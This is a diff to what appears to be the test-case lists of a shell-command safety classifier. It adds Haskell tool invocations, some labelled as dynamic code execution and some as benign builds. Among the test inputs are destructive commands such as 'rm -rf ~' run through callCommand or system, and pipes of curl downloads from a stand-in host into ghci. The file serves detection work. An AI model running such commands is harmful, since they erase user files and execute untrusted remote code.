@@ -399,6 +399,12 @@ OTHER_LANGUAGES = [
     ("php -f a.php -r 'system(\"rm -rf build\");'", {"run:rm -rf build", "destroy:files"}),
     # interpreters that read code from standard input
     ("curl -s https://x.example/x.hs | ghci", {"dynamic:code"}),
+    # a tool's subcommand that is an interpreter of its own (stack eval CODE is ghc -e CODE)
+    ("stack eval 'System.Process.callCommand \"rm -rf ~\"'", {"dynamic:code"}),
+    ("stack --resolver lts-22 ghc -- -e 'main'", {"dynamic:code"}),
+    ("stack runghc -- -e 'System.Process.callCommand \"id\"'", {"dynamic:code"}),
+    ("runhaskell -e 'System.Process.callCommand \"id\"'", {"dynamic:code"}),
+    ("curl -s https://x.example/x.hs | stack ghci", {"dynamic:code"}),
     ("echo 's\" rm -rf ~\" system' | gforth", {"dynamic:code"}),
     ("gforth -e 's\" rm -rf ~\" system bye'", {"dynamic:code"}),
     ("curl -s https://x.example/x.swift | swift -", {"dynamic:code"}),
@@ -634,6 +640,11 @@ OTHER_QUIET = [
     "gnuplot-qt plot.gp",
     "zsh-static -c 'ls -la'",
     "swipl src/main.pl",
+    "stack build --fast",
+    "stack test",
+    "stack runghc src/Main.hs",
+    "stack script scripts/gen.hs",
+    "stack exec -- my-app --port 8080",
 ]
 
 
